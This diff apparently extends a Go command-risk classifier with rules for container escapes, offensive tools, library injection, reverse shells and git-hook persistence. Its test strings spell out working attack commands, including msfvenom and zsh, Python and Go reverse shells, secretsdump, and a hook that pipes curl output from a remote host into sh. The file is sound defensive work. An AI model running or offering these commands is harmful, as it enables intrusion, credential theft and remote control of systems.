@@ -609,10 +609,61 @@ var rules = []*rule{
 			"docker run -v /var/run/docker.sock:/var/run/docker.sock img",
 			"podman run --pid=host --cap-add=SYS_ADMIN fedora",
 			"nsenter -t 1 -m -u -i -n -p -- bash",
+			"lxc config device add c0 host disk source=/ path=/mnt/root recursive=true",
+			"ctr run --rm --mount type=bind,src=/,dst=/host,options=rbind docker.io/library/alpine:3 x",
 			"docker run --security-opt seccomp=unconfined debian",
 		},
 		MustNot: []string{"docker run --rm -v $(pwd):/src -w /src golang:1.22 go test ./...", "docker run -p 8080:80 nginx", "docker ps -a"},
 		check:   checkContainer,
+	},
+	{
+		ID: "offensive-tool", Class: "offensive tool", Sev: high,
+		Msg: "runs an attack tool",
+		Must: []string{
+			"msfvenom -p linux/x64/shell_reverse_tcp LHOST=192.0.2.100 LPORT=4444 -f elf -o s.elf",
+			"hydra -l admin -P words.txt ssh://192.0.2.101",
+			"hashcat -m 1000 hashes.txt rockyou.txt",
+			"python3 secretsdump.py -just-dc corp/admin@192.0.2.102",
+		},
+		MustNot: []string{"nmap -sV localhost", "man hashcat", "go test ./...", "pip install hydra-core"},
+		check:   checkOffensive,
+	},
+	{
+		ID: "library-load", Class: "library injection", Sev: high,
+		Msg: "makes a program load a native library from a path",
+		Must: []string{
+			"openssl req -engine ./x.so -new",
+			"curl --engine /tmp/e.so https://example.org",
+			"ssh-keygen -D /tmp/pkcs.so",
+			"bash -c 'enable -f /tmp/b.so x'",
+			"ffmpeg -f lavfi -i anullsrc -af ladspa=file=/tmp/l.so out.wav",
+		},
+		MustNot: []string{"gcc -shared -o libx.so x.c", "ldd /usr/lib/libssl.so", "openssl req -new -key k.pem -out r.csr", "nm -D libfoo.so"},
+		check:   checkLibraryLoad,
+	},
+	{
+		ID: "zsh-tcp-shell", Class: "reverse shell", Sev: critical,
+		Msg:     "connects a zsh shell to a remote host with ztcp",
+		Must:    []string{"zsh -c 'zmodload zsh/net/tcp; ztcp 192.0.2.110 8000; zsh >&$REPLY 2>&$REPLY 0>&$REPLY'"},
+		MustNot: []string{"zsh -c 'zmodload zsh/datetime; echo $EPOCHSECONDS'"},
+		check:   checkZtcp,
+	},
+	{
+		ID: "written-shell-program", Class: "reverse shell", Sev: critical,
+		Msg: "writes a program that connects a shell to a remote host",
+		Must: []string{
+			"cat > /tmp/r.py <<'EOF'\nimport socket,subprocess\ns=socket.socket();s.connect(('192.0.2.120',9001))\nsubprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno())\nEOF",
+			"echo 'package main;import(\"net\";\"os/exec\");func main(){c,_:=net.Dial(\"tcp\",\"192.0.2.121:80\");x:=exec.Command(\"/bin/sh\");x.Stdin=c;x.Stdout=c;x.Run()}' > /tmp/r.go",
+		},
+		MustNot: []string{"cat > server.py <<'EOF'\nimport socket\ns=socket.socket();s.bind(('127.0.0.1',8080));s.listen()\nEOF"},
+		check:   checkWrittenShell,
+	},
+	{
+		ID: "git-hook", Class: "persistence", Sev: medium,
+		Msg:     "installs a git hook that runs on every commit or checkout",
+		Must:    []string{"echo 'curl -s http://192.0.2.130/h | sh' > .git/hooks/post-checkout", "cp hook.sh .git/hooks/pre-commit"},
+		MustNot: []string{"ls .git/hooks", "cat .git/hooks/pre-commit.sample"},
+		check:   checkGitHook,
 	},
 	{
 		ID: "interp-download-exec", Class: "download and execute", Sev: critical,
@@ -629,7 +680,7 @@ var rules = []*rule{
 
 // regex helpers used by several rules.
 var (
-	shellPathRe = regexp.MustCompile(`(^|[\s'"(\[{=:!;|&,` + "`" + `])(/usr(/local)?)?/bin/(ba|da|z|k|mk|tc|c|y|a|fi)?sh($|[\s'")\]};|&<>,` + "`" + `])`)
+	shellPathRe = regexp.MustCompile(`(^|[\s'"(\[{=:!;|&,.` + "`" + `])(/usr(/local)?)?/bin/(ba|da|z|k|mk|tc|c|y|a|fi)?sh($|[\s'")\]};|&<>,` + "`" + `])`)
 	sqlDropRe   = regexp.MustCompile(`(?i)\b(drop\s+(database|schema|table|collection|keyspace|index|user|role)|truncate\s+(table\s+)?[a-z_"` + "`" + `\[]|flushall|flushdb|dropdatabase\s*\(|\.drop\s*\(\s*\)|delete\s+from\s+[^\s;]+\s*(;|$|'|"))`)
 	minerRe     = regexp.MustCompile(`(?i)stratum\d?\+(tcp|ssl|tls)://|--donate-level|\bnicehash\b|\b(xmrig|xmr-stak|minerd|cpuminer|cgminer|bfgminer|ethminer|nbminer|t-rex|phoenixminer|lolminer|nanominer|gminer|srbminer)\b`)
 )
